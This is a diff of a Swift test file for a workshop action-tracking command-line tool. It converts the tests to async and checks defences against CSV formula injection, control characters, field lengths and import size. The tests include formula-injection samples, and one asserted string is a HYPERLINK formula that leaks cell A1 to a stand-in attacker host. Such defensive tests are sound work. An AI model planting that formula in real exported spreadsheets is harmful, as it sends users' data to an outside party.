@@ -19,13 +19,13 @@ struct InputHygieneCommandTests {
         let database: TestDatabase
         let url: String
 
-        func circles(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) throws -> CommandResult {
-            try Circles.run(arguments, environment: ["CIRCLES_DATABASE_URL": url, "CIRCLES_ACTOR": actor])
+        func circles(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) async throws -> CommandResult {
+            try await Circles.run(arguments, environment: ["CIRCLES_DATABASE_URL": url, "CIRCLES_ACTOR": actor])
         }
 
         /// Runs a command that must succeed and returns its standard output.
-        func ok(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) throws -> String {
-            let result = try circles(arguments, as: actor)
+        func ok(_ arguments: [String], as actor: String = InputHygieneCommandTests.lead) async throws -> String {
+            let result = try await circles(arguments, as: actor)
             guard result.status == 0 else {
                 throw TestSetupError("circles \(arguments.joined(separator: " ")) exited \(result.status): \(result.standardError)")
             }
@@ -33,8 +33,8 @@ struct InputHygieneCommandTests {
         }
 
         /// The ids of the workshop's action items by title.
-        func actionIDs() throws -> [String: String] {
-            let text = try ok(["action", "list", "--workshop", InputHygieneCommandTests.workshop, "--format", "json"])
+        func actionIDs() async throws -> [String: String] {
+            let text = try await ok(["action", "list", "--workshop", InputHygieneCommandTests.workshop, "--format", "json"])
             let rows = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]] ?? []
             return Dictionary(rows.compactMap { row in (row["title"] as? String).map { ($0, row["id"] as? String ?? "") } }) { $1 }
         }
@@ -54,7 +54,7 @@ struct InputHygieneCommandTests {
             (["team", "add-member", Self.team, "--email", "sw1@council.example"], Self.admin),
             (["workshop", "record", "--team", Self.team, "--title", Self.workshop, "--date", "2026-11-10"], Self.lead),
         ]
-        for (arguments, actor) in steps { _ = try setup.ok(arguments, as: actor) }
+        for (arguments, actor) in steps { _ = try await setup.ok(arguments, as: actor) }
         return setup
     }
 
@@ -81,28 +81,28 @@ struct InputHygieneCommandTests {
         let setup = try await setUp()
         let titles = [Self.hyperlink, "+SUM(1,2)", "-2+3", "@cmd", "Plain title"]
         let csv = "title,perspective\r\n" + titles.map { "\"\($0.replacingOccurrences(of: "\"", with: "\"\""))\",carer" }.joined(separator: "\r\n") + "\r\n"
-        _ = try setup.ok(["action", "import", try file("actions.csv", Data(csv.utf8)), "--workshop", Self.workshop])
-        _ = try setup.ok(["person", "add", "--email", "eve@council.example", "--name", "=Eve Formula"], as: Self.admin)
-        _ = try setup.ok(["team", "add-member", Self.team, "--email", "eve@council.example"], as: Self.admin)
-        let ids = try setup.actionIDs()
-        _ = try setup.ok([
+        _ = try await setup.ok(["action", "import", try file("actions.csv", Data(csv.utf8)), "--workshop", Self.workshop])
+        _ = try await setup.ok(["person", "add", "--email", "eve@council.example", "--name", "=Eve Formula"], as: Self.admin)
+        _ = try await setup.ok(["team", "add-member", Self.team, "--email", "eve@council.example"], as: Self.admin)
+        let ids = try await setup.actionIDs()
+        _ = try await setup.ok([
             "action", "schedule", ids[Self.hyperlink] ?? "", "--rule", "FREQ=MONTHLY;BYDAY=2TU", "--start", "2027-01-12T14:00",
             "--duration", "60m",
         ])
         let expected = titles.map { $0 == "Plain title" ? $0 : "'" + $0 }
 
-        let listed = try setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "csv"])
+        let listed = try await setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "csv"])
         #expect(Set(try Self.column("title", of: listed)) == Set(expected))
-        let progress = try setup.ok(["audit", "progress", "--workshop", Self.workshop, "--as-of", "2027-03-31", "--format", "csv"])
+        let progress = try await setup.ok(["audit", "progress", "--workshop", Self.workshop, "--as-of", "2027-03-31", "--format", "csv"])
         #expect(Set(try Self.column("action", of: progress)) == Set(expected))
-        let meetings = try setup.ok(["meeting", "list", "--team", Self.team, "--from", "2027-01-01", "--days", "30", "--format", "csv"])
+        let meetings = try await setup.ok(["meeting", "list", "--team", Self.team, "--from", "2027-01-01", "--days", "30", "--format", "csv"])
         #expect(try Self.column("title", of: meetings) == ["'" + Self.hyperlink])
-        let people = try setup.ok(["person", "list", "--format", "csv"], as: Self.admin)
+        let people = try await setup.ok(["person", "list", "--format", "csv"], as: Self.admin)
         #expect(try Self.column("name", of: people).contains("'=Eve Formula"))
-        let coverage = try setup.ok(["audit", "coverage", "--team", Self.team, "--as-of", "2027-03-31", "--format", "csv"])
+        let coverage = try await setup.ok(["audit", "coverage", "--team", Self.team, "--as-of", "2027-03-31", "--format", "csv"])
         #expect(try Self.column("name", of: coverage).contains("'=Eve Formula"))
         // The JSON listing keeps the title exactly as it was given.
-        let json = try setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "json"])
+        let json = try await setup.ok(["action", "list", "--workshop", Self.workshop, "--format", "json"])
         #expect(json.contains(#""=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")""#))
         try await setup.database.drop()
     }
@@ -112,8 +112,8 @@ struct InputHygieneCommandTests {
     @Test("one-line fields refuse control characters, naming the field, the character and where it is")
     func oneLineFieldsRefuseControls() async throws {
         let setup = try await setUp()
-        _ = try setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
-        let action = try #require(try setup.actionIDs()["Peer support"])
+        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
+        let action = try await #require(try setup.actionIDs()["Peer support"])
         let cases: [([String], String, String)] = [
             (["workshop", "record", "--team", Self.team, "--title", "Bad\u{1B}[31m", "--date", "2026-11-11"], Self.lead,
              #"the title contains the control character U+001B (escape) at character 4; a title is one line of text, without line breaks, tabs or other control characters"#),
@@ -132,17 +132,17 @@ struct InputHygieneCommandTests {
              "the notes contain the control character U+001B (escape) at character 2; notes may contain line breaks and tabs but no other control characters"),
         ]
         for (arguments, actor, message) in cases {
-            let result = try setup.circles(arguments, as: actor)
+            let result = try await setup.circles(arguments, as: actor)
             #expect(result.status == 1, "\(arguments)")
             #expect(result.standardError.contains(message), "\(arguments): \(result.standardError)")
             #expect(!result.standardError.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "raw control in: \(result.standardError)")
         }
-        #expect(try setup.ok(["workshop", "list"]).contains("Bad") == false)
+        #expect(try await setup.ok(["workshop", "list"]).contains("Bad") == false)
         // A multi-line field keeps line feeds and tabs; a CRLF becomes a line feed.
-        _ = try setup.ok([
+        _ = try await setup.ok([
             "action", "add", "--workshop", Self.workshop, "--title", "Multi", "--perspective", "carer", "--card", "first\r\nsecond\tcolumn",
         ])
-        let shown = try setup.ok(["action", "show", try #require(try setup.actionIDs()["Multi"])])
+        let shown = try await setup.ok(["action", "show", try #require(try setup.actionIDs()["Multi"])])
         #expect(shown.contains(#"  card: first\nsecond\tcolumn"#))
         try await setup.database.drop()
     }
@@ -159,7 +159,7 @@ struct InputHygieneCommandTests {
               {"title": "Card", "perspective": "carer", "source_card_text": "bell\\u0007"}
             ]
             """
-        let result = try setup.circles(["action", "import", try file("bad.json", Data(json.utf8)), "--workshop", Self.workshop])
+        let result = try await setup.circles(["action", "import", try file("bad.json", Data(json.utf8)), "--workshop", Self.workshop])
         #expect(result.status == 1)
         #expect(
             result.standardError == """
@@ -170,16 +170,16 @@ struct InputHygieneCommandTests {
                   line 6: the source card text contains the control character U+0007 (bell) at character 5; the source card text may contain line breaks and tabs but no other control characters
 
                 """)
-        #expect(try setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
+        #expect(try await setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
         try await setup.database.drop()
     }
 
     @Test("tables, details, progress reports and confirmations show control characters stored before the checks as visible escapes")
     func tablesEscapeStoredControls() async throws {
         let setup = try await setUp()
-        _ = try setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
-        let action = try #require(try setup.actionIDs()["Peer support"])
-        let workshops = try JSONSerialization.jsonObject(with: Data(try setup.ok(["workshop", "list", "--format", "json"]).utf8))
+        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
+        let action = try await #require(try setup.actionIDs()["Peer support"])
+        let workshops = try await JSONSerialization.jsonObject(with: Data(try setup.ok(["workshop", "list", "--format", "json"]).utf8))
         let workshopID = try #require(((workshops as? [[String: Any]])?.first?["id"]) as? String)
         // As an older version could have stored them.
         let connection = try await setup.database.connect()
@@ -189,11 +189,11 @@ struct InputHygieneCommandTests {
             """)
         await connection.close()
         let outputs = [
-            try setup.ok(["workshop", "list"]),
-            try setup.ok(["action", "list", "--workshop", workshopID]),
-            try setup.ok(["action", "show", action]),
-            try setup.ok(["audit", "progress", "--team", Self.team, "--as-of", "2027-03-31"]),
-            try setup.ok(["action", "status", action, "in-progress"]),
+            try await setup.ok(["workshop", "list"]),
+            try await setup.ok(["action", "list", "--workshop", workshopID]),
+            try await setup.ok(["action", "show", action]),
+            try await setup.ok(["audit", "progress", "--team", Self.team, "--as-of", "2027-03-31"]),
+            try await setup.ok(["action", "status", action, "in-progress"]),
         ]
         for output in outputs {
             #expect(!output.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) }, "\(output)")
@@ -211,8 +211,8 @@ struct InputHygieneCommandTests {
     @Test("every bounded field refuses one character more than its limit, naming the limit and the length")
     func lengthLimits() async throws {
         let setup = try await setUp()
-        _ = try setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
-        let action = try #require(try setup.actionIDs()["Peer support"])
+        _ = try await setup.ok(["action", "add", "--workshop", Self.workshop, "--title", "Peer support", "--perspective", "practitioner"])
+        let action = try await #require(try setup.actionIDs()["Peer support"])
         func text(_ count: Int) -> String { String(repeating: "é", count: count) }
         let cases: [([String], String, String)] = [
             (["workshop", "record", "--team", Self.team, "--title", text(301), "--date", "2026-11-11"], Self.lead,
@@ -234,12 +234,12 @@ struct InputHygieneCommandTests {
              "a location may have at most 200 characters; this one has 201"),
         ]
         for (arguments, actor, message) in cases {
-            let result = try setup.circles(arguments, as: actor)
+            let result = try await setup.circles(arguments, as: actor)
             #expect(result.status == 1, "\(arguments.prefix(3))")
             #expect(result.standardError == "error: \(message)\n", "\(arguments.prefix(3))")
         }
         // At the limit is accepted.
-        _ = try setup.ok(["workshop", "record", "--team", Self.team, "--title", text(300), "--date", "2026-11-11", "--notes", text(10_000)])
+        _ = try await setup.ok(["workshop", "record", "--team", Self.team, "--title", text(300), "--date", "2026-11-11", "--notes", text(10_000)])
         try await setup.database.drop()
     }
 
@@ -247,21 +247,21 @@ struct InputHygieneCommandTests {
     func importLimits() async throws {
         let setup = try await setUp()
         let rows = (1...1_001).map { "Action \($0),carer" }.joined(separator: "\n")
-        let many = try setup.circles(["action", "import", try file("many.csv", Data("title,perspective\n\(rows)\n".utf8)), "--workshop", Self.workshop])
+        let many = try await setup.circles(["action", "import", try file("many.csv", Data("title,perspective\n\(rows)\n".utf8)), "--workshop", Self.workshop])
         #expect(many.status == 1)
         #expect(
             many.standardError
                 == "error: many.csv has 1,001 action items; an import may have at most 1,000; nothing was imported — split it into several files\n")
         let big = Data("title,perspective\n".utf8) + Data(repeating: UInt8(ascii: "x"), count: 8 * 1024 * 1024)
-        let large = try setup.circles(["action", "import", try file("big.csv", big), "--workshop", Self.workshop])
+        let large = try await setup.circles(["action", "import", try file("big.csv", big), "--workshop", Self.workshop])
         #expect(large.status == 1)
         #expect(
             large.standardError
                 == "error: big.csv has 8,388,626 bytes; an import may have at most 8,388,608 bytes (8 MiB); nothing was imported — split it into several files\n")
-        #expect(try setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
+        #expect(try await setup.ok(["action", "list", "--workshop", Self.workshop]) == "(none)\n")
         // Exactly 1,000 is accepted.
         let thousand = (1...1_000).map { "Action \($0),carer" }.joined(separator: "\n")
-        _ = try setup.ok(["action", "import", try file("thousand.csv", Data("title,perspective\n\(thousand)\n".utf8)), "--workshop", Self.workshop])
+        _ = try await setup.ok(["action", "import", try file("thousand.csv", Data("title,perspective\n\(thousand)\n".utf8)), "--workshop", Self.workshop])
         try await setup.database.drop()
     }
 }
